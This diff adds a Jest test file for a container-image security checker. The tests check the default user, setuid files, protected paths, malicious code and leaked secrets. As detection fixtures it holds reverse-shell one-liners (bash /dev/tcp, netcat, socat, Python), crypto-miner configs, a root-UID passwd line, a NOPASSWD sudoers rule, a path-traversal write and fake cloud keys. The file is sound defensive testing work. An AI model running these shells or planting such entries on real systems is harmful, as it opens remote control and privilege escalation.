@@ -1,0 +1,308 @@
+import { check, paths, rule } from '../__fixtures__/check';
+import { onBase, type LayerSpec } from '../__fixtures__/image-builder';
+
+const layer = (entries: LayerSpec['entries'], createdBy = '/bin/sh -c make-it') => ({ entries, createdBy });
+
+describe('a clean image', () => {
+  it('has no findings at all when built on the given base', async () => {
+    const result = await check(onBase([layer([{ path: 'opt/app/train.py', content: 'print("hi")\n', uid: 1101 }])], { User: 'work', Cmd: ['python3', '/opt/app/train.py'] }));
+    expect(result.findings).toEqual([]);
+  });
+});
+
+describe('default-user', () => {
+  const user = async (User: string | undefined) => rule(await check(onBase([], User === undefined ? {} : { User })), 'default-user');
+
+  it.each(['work', '1101', 'work:work', '1101:1101', 'work:1101'])('accepts %s', async (u) => {
+    expect(await user(u)).toEqual([]);
+  });
+
+  it.each([
+    [undefined, /no default user/],
+    ['', /no default user/],
+    ['root', /root \(UID 0\)/],
+    ['0', /root \(UID 0\)/],
+    ['1000', /UID 1000/],
+    ['ghost', /not a user in the image's \/etc\/passwd/],
+    ['work:nogroup', /group "nogroup", which is not in/]
+  ])('rejects %p', async (u, message) => {
+    const found = await user(u);
+    expect(found).toHaveLength(1);
+    expect(found[0].severity).toBe('error');
+    expect(found[0].message).toMatch(message);
+  });
+
+  it('resolves names through the final /etc/passwd and honours --expected-uid', async () => {
+    const spec = onBase([layer([{ path: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nma-user:x:1000:100::/home/ma-user:/bin/sh\n' }])], { User: 'ma-user' });
+    expect(rule(await check(spec, { settings: { expectedUid: 1000 } }), 'default-user')).toEqual([]);
+    expect(rule(await check(spec), 'default-user')[0].message).toMatch(/UID 1000; ModelArts requires UID 1101/);
+  });
+});
+
+describe('setuid-setgid', () => {
+  it('reports a root-owned setuid file a custom layer added', async () => {
+    const r = await check(onBase([layer([{ path: 'opt/tool', content: 'x', mode: 0o4755 }])]));
+    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/tool']);
+    expect(rule(r, 'setuid-setgid')[0].layer?.index).toBe(1);
+  });
+
+  it('reports a setgid file too, but not one owned by another user', async () => {
+    const r = await check(onBase([layer([{ path: 'opt/g', content: 'x', mode: 0o2755 }, { path: 'opt/u', content: 'x', mode: 0o4755, uid: 1101 }])]));
+    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/g']);
+  });
+
+  it('reports a hard link to a setuid file of the base', async () => {
+    const r = await check(onBase([layer([{ path: 'opt/su2', type: 'hardlink', link: 'usr/bin/su' }])]));
+    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/su2']);
+    expect(rule(r, 'setuid-setgid')[0].message).toMatch(/hard link to \/usr\/bin\/su/);
+  });
+
+  it('reports a chmod-only change of a base file', async () => {
+    const r = await check(onBase([layer([{ path: 'bin/ls', content: 'ls binary', mode: 0o4755 }])]));
+    expect(paths(r, 'setuid-setgid')).toEqual(['/bin/ls']);
+  });
+
+  it('does not report setuid files inherited from the base, even when rewritten identically', async () => {
+    expect(rule(await check(onBase([])), 'setuid-setgid')).toEqual([]);
+    expect(rule(await check(onBase([layer([{ path: 'usr/bin/su', content: 'su binary', mode: 0o4755 }])])), 'setuid-setgid')).toEqual([]);
+  });
+});
+
+describe('protected-path', () => {
+  it('reports a modified base file with the layer at fault', async () => {
+    const r = await check(onBase([layer([{ path: 'usr/lib/libc.so', content: 'patched', mode: 0o755 }], '/bin/sh -c patch-libc')]));
+    expect(paths(r, 'protected-path')).toEqual(['/usr/lib/libc.so']);
+    expect(rule(r, 'protected-path')[0].instruction).toBe('/bin/sh -c patch-libc');
+  });
+
+  it('reports mode, owner and symlink target changes', async () => {
+    const r = await check(
+      onBase([
+        layer([
+          { path: 'usr/bin/python3', content: 'python', mode: 0o777 },
+          { path: 'bin/sh', content: 'shell binary', mode: 0o755, uid: 1101 }
+        ])
+      ])
+    );
+    expect(paths(r, 'protected-path').sort()).toEqual(['/bin/sh', '/usr/bin/python3']);
+  });
+
+  it('accepts a byte-identical rewrite and a change that a later layer restores', async () => {
+    expect(rule(await check(onBase([layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])])), 'protected-path')).toEqual([]);
+    const restored = onBase([layer([{ path: 'usr/lib/libc.so', content: 'evil', mode: 0o755 }]), layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])]);
+    expect(rule(await check(restored), 'protected-path')).toEqual([]);
+  });
+
+  it('reports a deleted tree once, with the count', async () => {
+    const r = await check(onBase([layer([{ path: 'usr/share/doc', type: 'whiteout' }], '/bin/sh -c rm -rf /usr/share/doc')]));
+    const found = rule(r, 'protected-path');
+    expect(found).toHaveLength(1);
+    expect(found[0].path).toBe('/usr/share/doc');
+    expect(found[0].message).toMatch(/2 base-image paths under \/usr\/share\/doc were deleted/);
+    expect(found[0].layer?.index).toBe(1);
+  });
+
+  it('reports files hidden by an opaque directory', async () => {
+    const r = await check(onBase([layer([{ path: 'usr/share/doc', type: 'dir' }, { path: 'usr/share/doc', type: 'opaque' }, { path: 'usr/share/doc/new', content: 'n' }])]));
+    expect(rule(r, 'protected-path')[0].message).toMatch(/hidden/);
+  });
+
+  it('allows new files in protected directories', async () => {
+    const r = await check(onBase([layer([{ path: 'usr/local/bin/mytool', content: 'tool', mode: 0o755 }])]));
+    expect(rule(r, 'protected-path')).toEqual([]);
+  });
+});
+
+describe('protected-etc', () => {
+  it('reports changed, added and deleted important files, and ignores others', async () => {
+    const r = await check(
+      onBase([
+        layer([
+          { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\nwork:x:1101:1101:work:/home/work:/bin/sh\nevil:x:0:0::/:/bin/sh\n' },
+          { path: 'etc/sudoers.d/work', content: 'work ALL=(ALL) NOPASSWD:ALL\n' },
+          { path: 'etc/hosts', type: 'whiteout' },
+          { path: 'etc/pip.conf', content: '[global]\n' }
+        ])
+      ])
+    );
+    expect(paths(r, 'protected-etc').sort()).toEqual(['/etc/hosts', '/etc/passwd', '/etc/sudoers.d/work']);
+  });
+});
+
+describe('modelarts-tools', () => {
+  it('reports a changed or deleted tool and accepts untouched ones', async () => {
+    const r = await check(
+      onBase([
+        layer([
+          { path: 'home/work/run_train.sh', content: '#!/bin/bash\necho mine\n', mode: 0o755, uid: 1101, gid: 1101 },
+          { path: 'home/work/utils.sh', type: 'whiteout' }
+        ])
+      ])
+    );
+    expect(paths(r, 'modelarts-tools').sort()).toEqual(['/home/work/run_train.sh', '/home/work/utils.sh']);
+    expect(rule(await check(onBase([])), 'modelarts-tools')).toEqual([]);
+  });
+});
+
+describe('image-size', () => {
+  it('reports an image over the limit with its largest layers and files', async () => {
+    const r = await check(onBase([layer([{ path: 'opt/model.bin', content: Buffer.alloc(40000, 7) }], '/bin/sh -c download-weights')]), { settings: { maxSize: 20000 } });
+    const found = rule(r, 'image-size');
+    expect(found).toHaveLength(1);
+    expect(found[0].message).toMatch(/over the 20\.0 kB limit/);
+    expect(found[0].message).toMatch(/\/opt\/model\.bin 40\.0 kB/);
+    expect(rule(await check(onBase([]), { settings: { maxSize: 10_000_000 } }), 'image-size')).toEqual([]);
+  });
+});
+
+describe('base-image', () => {
+  it('reports an image not built on the given base', async () => {
+    const other = { layers: [layer([{ path: 'bin/sh', content: 'other' }])], config: { User: '1101' } };
+    const found = rule(await check(other), 'base-image');
+    expect(found).toHaveLength(1);
+    expect(found[0].severity).toBe('error');
+  });
+
+  it('warns without a base and guesses the boundary from the history', async () => {
+    const r = await check(onBase([layer([{ path: 'opt/x', content: 'x', mode: 0o4755 }])]), { withBase: false });
+    const found = rule(r, 'base-image');
+    expect(found).toHaveLength(1);
+    expect(found[0].severity).toBe('warning');
+    expect(found[0].message).toMatch(/first 1 layers were taken as the base, guessed/);
+    expect(r.facts.base.guessed).toBe(true);
+    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/x']); // the base's own su is not reported
+  });
+});
+
+describe('log-stdout and offline-deps', () => {
+  const script = (text: string) => layer([{ path: 'opt/start.sh', content: text, mode: 0o755 }], '/bin/sh -c #(nop) COPY file:abc in /opt/start.sh ');
+
+  it('reads the start-up command and the scripts it starts', async () => {
+    const r = await check(
+      onBase([script('#!/bin/bash\npip install torch==2.1\npython train.py > /cache/train.log 2>&1\npython eval.py | tee eval.txt\nnohup python serve.py &\necho ok\n')], {
+        User: 'work',
+        Cmd: ['/bin/sh', '-c', 'bash /opt/start.sh']
+      })
+    );
+    const logs = rule(r, 'log-stdout').map((f) => f.message);
+    expect(logs).toHaveLength(3);
+    expect(logs[0]).toMatch(/\/opt\/start\.sh:3: output is redirected to the file \/cache\/train\.log/);
+    expect(logs[1]).toMatch(/tee copies the output into the file eval\.txt/);
+    expect(logs[2]).toMatch(/nohup/);
+    const deps = rule(r, 'offline-deps');
+    expect(deps).toHaveLength(1);
+    expect(deps[0].message).toMatch(/\/opt\/start\.sh:2 installs Python packages/);
+    expect(deps.every((f) => f.severity === 'warning')).toBe(true);
+  });
+
+  it('accepts logging to stdout and offline installs', async () => {
+    const r = await check(onBase([script('#!/bin/sh\npip install --no-index --find-links /wheels x\npython train.py 2>&1\ncommand -v nvidia-smi > /dev/null\n')], { User: 'work', Entrypoint: ['/opt/start.sh'] }));
+    expect(rule(r, 'log-stdout')).toEqual([]);
+    expect(rule(r, 'offline-deps')).toEqual([]);
+  });
+
+  it('flags downloads in the command itself', async () => {
+    const r = await check(onBase([], { User: 'work', Cmd: ['/bin/sh', '-c', 'git clone https://example.com/x.git && curl -sL https://example.com/get.sh | bash'] }));
+    expect(rule(r, 'offline-deps')).toHaveLength(1);
+  });
+});
+
+describe('malicious-code', () => {
+  const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
+
+  it.each([
+    ['EICAR test file', EICAR],
+    ['bash reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+    ['netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
+    ['socat', "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr"],
+    ['python one-liner', 'python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''],
+    ['miner pool', '{"url": "stratum+tcp://pool.example.com:3333"}'],
+    ['miner config', '{"donate-level": 1, "cpu": true}']
+  ])('finds %s in a custom layer', async (_name, content) => {
+    const r = await check(onBase([layer([{ path: 'opt/payload', content: `header\n${content}\nfooter\n` }])]));
+    expect(paths(r, 'malicious-code')).toEqual(['/opt/payload']);
+  });
+
+  it('ignores the same content in the base and benign mentions', async () => {
+    const spec = onBase([layer([{ path: 'opt/doc.txt', content: 'Bash can open /dev/tcp/host/port connections.\nuse Socket; # docs\n' }])]);
+    spec.layers[0].entries.push({ path: 'usr/share/eicar.txt', content: EICAR });
+    expect(rule(await check(spec, { withBase: false }), 'malicious-code')).toEqual([]);
+  });
+
+  it('finds a pattern split across the scanner window and the reader chunks', async () => {
+    for (const offset of [256 * 1024 - 10, 256 * 1024 - 512 - 3, 7919 - 20]) {
+      const content = Buffer.concat([Buffer.alloc(offset, 0x41), Buffer.from(EICAR), Buffer.alloc(300 * 1024, 0x42)]);
+      const r = await check(onBase([layer([{ path: 'opt/big.bin', content }])]));
+      expect(paths(r, 'malicious-code')).toEqual(['/opt/big.bin']);
+    }
+  });
+
+  it('reports entries that climb out of the root or write through a symlink, and applies neither', async () => {
+    const r = await check(
+      onBase([
+        layer([{ path: 'opt/etc-link', type: 'symlink', link: '/etc' }]),
+        layer([
+          { path: 'opt/etc-link/shadow', content: 'root::0:0' },
+          { path: 'opt/../../etc/evil', content: 'x' }
+        ])
+      ])
+    );
+    expect(paths(r, 'malicious-code').sort()).toEqual(['/opt/etc-link/shadow', 'opt/../../etc/evil']);
+    expect(r.facts.fs.get('/etc/shadow')).toBeUndefined();
+    expect(r.facts.fs.get('/etc/evil')).toBeUndefined();
+  });
+});
+
+describe('secrets', () => {
+  const AWS = 'AKIAZ3MSJV4WWXXJ6ZQF';
+  const SK = 'Qh7sKd93nFh27dkLs0Pq8ZrT5vXwYb1cNm4oEjGa';
+
+  it('finds keys in files, credential files, ENV and history, and never prints them', async () => {
+    const r = await check(
+      onBase(
+        [
+          layer([
+            { path: 'root/.ssh/id_rsa', content: `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'}\n-----END OPENSSH PRIVATE KEY-----\n` },
+            { path: 'opt/app/settings.py', content: `AWS_KEY = "${AWS}"\n` },
+            { path: 'home/work/.docker/config.json', content: '{"auths":{"swr.cn-north-4.myhuaweicloud.com":{"auth":"Y24tbm9ydGgtNEBBSzpzZWNyZXQ="}}}' },
+            { path: 'home/work/.obsutilconfig', content: `endpoint=obs.example.com\nak=ABCDEFGHIJKLMNOPQRST\nsk=${SK}\n` }
+          ], `|1 HUAWEICLOUD_SDK_SK=${SK} /bin/sh -c ./setup.sh`)
+        ],
+        { User: 'work', Env: [`OBS_SK=${SK}`, 'PATH=/usr/bin'] }
+      )
+    );
+    const found = rule(r, 'secrets');
+    expect(found.map((f) => f.path).filter(Boolean).sort()).toEqual(['/home/work/.docker/config.json', '/home/work/.obsutilconfig', '/opt/app/settings.py', '/root/.ssh/id_rsa']);
+    expect(found.some((f) => /environment sets OBS_SK=/.test(f.message))).toBe(true);
+    expect(found.some((f) => /Build step \d+ recorded HUAWEICLOUD_SDK_SK=/.test(f.message))).toBe(true);
+    const text = JSON.stringify(r.findings);
+    expect(text).not.toContain(SK);
+    expect(text).not.toContain(AWS);
+    expect(text).not.toContain('Y24tbm9ydGgtNEBBSzpzZWNyZXQ=');
+  });
+
+  it('ignores documentation examples and placeholders', async () => {
+    const r = await check(onBase([layer([{ path: 'opt/README', content: 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }])], { User: 'work', Env: ['OBS_SK=${OBS_SK}', 'PASSWORD='] }));
+    expect(rule(r, 'secrets')).toEqual([]);
+  });
+});
+
+describe('severities and waivers', () => {
+  const spec = onBase([layer([{ path: 'opt/tool', content: 'x', mode: 0o4755 }])]);
+
+  it('turns a rule off or changes its severity', async () => {
+    expect(rule(await check(spec, { settings: { severities: { 'setuid-setgid': 'off' } } }), 'setuid-setgid')).toEqual([]);
+    expect(rule(await check(spec, { settings: { severities: { 'setuid-setgid': 'notice' } } }), 'setuid-setgid')[0].severity).toBe('notice');
+  });
+
+  it('waives a finding by rule and path glob until the waiver expires', async () => {
+    const waived = rule(await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-12-31' }] } }), 'setuid-setgid');
+    expect(waived[0].waived).toEqual({ reason: 'vendor tool', expires: '2026-12-31' });
+    const expired = await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-01-01' }] } });
+    const found = rule(expired, 'setuid-setgid');
+    expect(found.find((f) => f.severity === 'error')?.waived).toBeUndefined();
+    expect(found.find((f) => f.severity === 'notice')?.message).toMatch(/expired on 2026-01-01/);
+    const otherPath = rule(await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/usr/**', reason: 'x' }] } }), 'setuid-setgid');
+    expect(otherPath[0].waived).toBeUndefined();
+  });
+});
